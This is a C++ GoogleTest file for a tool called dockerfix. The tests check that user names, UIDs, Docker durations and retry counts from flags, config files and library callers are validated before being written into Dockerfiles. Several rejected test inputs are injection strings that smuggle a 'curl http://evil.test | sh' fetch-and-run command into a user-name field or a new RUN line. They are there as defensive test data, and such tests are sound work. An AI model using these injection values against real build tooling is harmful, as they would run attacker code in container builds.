// Values dockerfix writes into Dockerfiles (issue 11, item 2): the checks
// themselves, the flags and the config that use them (the message names the
// flag, or the config's file, line and key), and the rules' own refusal of a
// bad value a library caller passes.
#include <gtest/gtest.h>

#include "cli/config.h"
#include "cli/fix_options.h"
#include "dockerfix/fix.h"
#include "dockerfix/values.h"

namespace dockerfix {
namespace {

using fix::count_problem;
using fix::duration_problem;
using fix::id_problem;
using fix::user_name_problem;

TEST(OptionValues, PortableUserNames) {
  for (std::string ok : std::vector<std::string>{"agent", "a", "app-user", "app_user2", std::string(32, 'a')}) EXPECT_EQ(user_name_problem(ok), "") << ok;
  for (std::string bad : std::vector<std::string>{"x; curl http://evil.test | sh #", "agent\nRUN curl x|sh", "Agent", "1app", "_app", "-app",
                          "app$", "a b", "a.b", "", "root", std::string(33, 'a'), "caf\xc3\xa9"})
    EXPECT_NE(user_name_problem(bad), "") << bad;
  // The message shows the value without its raw newline.
  EXPECT_EQ(user_name_problem("agent\nRUN x").find('\n'), std::string::npos);
}

TEST(OptionValues, Ids) {
  for (int64_t ok : {1LL, 1000LL, 65534LL, 2147483646LL}) EXPECT_EQ(id_problem(ok), "") << ok;
  for (int64_t bad : {0LL, -1LL, 2147483647LL, 4294967295LL}) EXPECT_NE(id_problem(bad), "") << bad;
  EXPECT_NE(id_problem(0).find("root"), std::string::npos);
}

TEST(OptionValues, DockerDurations) {
  for (std::string ok : {"30s", "1m30s", "500ms", "1.5s", "1h", "1ms", "2h45m0.5s", "1000000ns"})
    EXPECT_EQ(duration_problem(ok), "") << ok;
  for (std::string bad : {"banana", "30", "", "0s", "0", "999us", "-5s", "+5s", "5 s", "1x", "s", "1..5s", "30s\nRUN x",
                          "9999999999h"})
    EXPECT_NE(duration_problem(bad), "") << bad;
  EXPECT_NE(duration_problem("30").find("unit"), std::string::npos);
}

TEST(OptionValues, Counts) {
  EXPECT_EQ(count_problem(3, 1, 100), "");
  EXPECT_NE(count_problem(-3, 1, 100), "");
  EXPECT_NE(count_problem(0, 1, 100), "");
  EXPECT_NE(count_problem(101, 1, 100), "");
  EXPECT_EQ(fix::invalid_option(fix::Options{}), "");
  fix::Options o;
  o.retries = -3;
  EXPECT_EQ(fix::invalid_option(o).rfind("retries: ", 0), 0u) << fix::invalid_option(o);
}

// ---------------------------------------------------------------- config
std::string config_error(const std::string& yaml) {
  try {
    cli::parse_config(yaml, "repo/.dockerfix.yaml", ".");
  } catch (const cli::ConfigError& e) {
    return e.what();
  }
  return "";
}

TEST(ConfigValues, EveryWrittenValueIsCheckedWithFileLineAndKey) {
  struct Case {
    std::string yaml, want;
  };
  for (const auto& c : std::vector<Case>{
           {"rules:\n  nonroot-final-user:\n    user: \"agent\\nRUN curl http://evil.test | sh\"\n",
            "repo/.dockerfix.yaml:3: rules.nonroot-final-user.user: "},
           {"rules:\n  explicit-uid:\n    uid: 0\n", "repo/.dockerfix.yaml:3: rules.explicit-uid.uid: "},
           {"rules:\n  explicit-uid:\n    gid: -1\n", "repo/.dockerfix.yaml:3: rules.explicit-uid.gid: "},
           {"rules:\n  explicit-uid:\n    uid: 4294967296\n", "repo/.dockerfix.yaml:3: rules.explicit-uid.uid: "},
           {"rules:\n  healthcheck:\n    enabled: true\n    interval: 30\n", "repo/.dockerfix.yaml:4: rules.healthcheck.interval: "},
           {"rules:\n  healthcheck:\n    timeout: banana\n", "repo/.dockerfix.yaml:3: rules.healthcheck.timeout: "},
           {"rules:\n  healthcheck:\n    start-period: 0s\n", "repo/.dockerfix.yaml:3: rules.healthcheck.start-period: "},
           {"rules:\n  healthcheck:\n    retries: 0\n", "repo/.dockerfix.yaml:3: rules.healthcheck.retries: "},
           {"rules:\n  network-retry:\n    retries: -3\n", "repo/.dockerfix.yaml:3: rules.network-retry.retries: "},
           {"rules:\n  network-retry:\n    retry-delay: -1\n", "repo/.dockerfix.yaml:3: rules.network-retry.retry-delay: "},
           {"rules:\n  network-retry:\n    pip-retries: 1000\n", "repo/.dockerfix.yaml:3: rules.network-retry.pip-retries: "},
       }) {
    std::string e = config_error(c.yaml);
    EXPECT_EQ(e.rfind(c.want, 0), 0u) << c.yaml << " gave: " << e;
  }
  // Good values still load.
  auto ok = cli::parse_config("rules:\n  healthcheck:\n    interval: 1m30s\n    retries: 5\n  explicit-uid:\n    uid: 10001\n",
                              "c", ".");
  EXPECT_EQ(ok.setting("health-interval"), "1m30s");
  EXPECT_EQ(ok.setting("health-retries"), "5");
  EXPECT_EQ(ok.setting("uid"), "10001");
}

// ---------------------------------------------------------------- flags
std::string flag_error(std::vector<std::string> args) {
  CLI::App app;
  cli::FixOptions o;
  cli::add_fix_options(&app, o);
  std::reverse(args.begin(), args.end());
  try {
    app.parse(args);
  } catch (const CLI::ParseError& e) {
    return e.what();
  }
  return "";
}

TEST(FlagValues, EveryWrittenValueIsCheckedAndNamesTheFlag) {
  for (const auto& [flag, value] : std::vector<std::pair<std::string, std::string>>{
           {"--user", "x; curl http://evil.test | sh #"},
           {"--user", "Agent"},
           {"--uid", "0"},
           {"--uid", "-5"},
           {"--gid", "2147483647"},
           {"--retries", "-3"},
           {"--retry-delay", "9999"},
           {"--pip-retries", "0"},
           {"--health-interval", "banana"},
           {"--health-timeout", "30"},
           {"--health-start-period", "0s"},
           {"--health-retries", "-1"},
       }) {
    std::string e = flag_error({flag, value});
    EXPECT_NE(e.find(flag + ":"), std::string::npos) << flag << " " << value << " gave: '" << e << "'";
  }
  EXPECT_EQ(flag_error({"--user", "app", "--uid", "10001", "--health-interval", "1m"}), "");
}

// ---------------------------------------------------------------- rules, as a library
TEST(RuleValues, RulesRefuseBadOptionsFromALibraryCaller) {
  const auto& kb = model::KnowledgeBase::builtin();
  struct Case {
    std::string rule, src;
    fix::Options o;
  };
  std::vector<Case> cases;
  auto with = [](auto set) {
    fix::Options o;
    set(o);
    return o;
  };
  const std::string debian = "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nRUN useradd app\nCMD [\"/srv/app\"]\n";
  cases.push_back({"nonroot-final-user", debian, with([](auto& o) { o.user = "x; curl http://evil.test | sh #"; })});
  cases.push_back({"nonroot-final-user", debian, with([](auto& o) { o.uid = 0; })});
  cases.push_back({"explicit-uid", debian, with([](auto& o) { o.uid = 0; })});
  // healthcheck reports services only (issue 13).
  const std::string service = "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD [\"gunicorn\", \"app:app\"]\n";
  cases.push_back({"healthcheck", service, with([](auto& o) { o.health_interval = "banana"; })});
  cases.push_back({"healthcheck", service, with([](auto& o) { o.health_retries = -3; })});
  cases.push_back({"network-retry", "FROM debian:12\nRUN curl -o /x https://example.com/x\n",
                   with([](auto& o) { o.retries = -3; })});
  for (const auto& c : cases) {
    fix::Selection s;
    s.only = {c.rule};
    auto r = fix::fix(c.src, "Dockerfile", kb, c.o, s);
    EXPECT_EQ(r.text, c.src) << c.rule;
    ASSERT_FALSE(r.unfixed.empty()) << c.rule;
    EXPECT_NE(r.unfixed[0].no_fix_reason.find("configured"), std::string::npos) << r.unfixed[0].no_fix_reason;
  }
}

}  // namespace
}  // namespace dockerfix

namespace dockerfix {
namespace {

// A repository's config can describe images (`images:`): the names it gives
// reach USER lines and --chown values only when they are plain.
TEST(RuleValues, UserNamesFromAnImagesEntryAreNotWrittenRaw) {
  const std::string yaml =
      "images:\n"
      "  - name: evil\n"
      "    match: {repository: [\"evil.example/base\"]}\n"
      "    family: debian\n"
      "    package_managers: [apt]\n"
      "    shell: true\n"
      "    user: {name: root, uid: 0}\n"
      "    users: [{name: \"x\\nRUN curl http://evil.test | sh\", uid: 1000, gid: 1000, home: /home/x}]\n"
      "    user_tool: useradd\n"
      "    source: test\n";
  model::KnowledgeBase kb = model::KnowledgeBase::builtin();
  try {
    kb.prepend(model::KnowledgeBase::from_yaml(yaml, "c.yaml"));
  } catch (const std::runtime_error&) {
    return;  // the loader refusing the name is as good
  }
  const std::string src = "FROM evil.example/base:1\nRUN apt-get update\nCMD [\"/app\"]\n";
  auto r = fix::fix(src, "Dockerfile", kb, {}, {});
  EXPECT_EQ(r.text.find("evil.test"), std::string::npos) << r.text;
}

}  // namespace
}  // namespace dockerfix
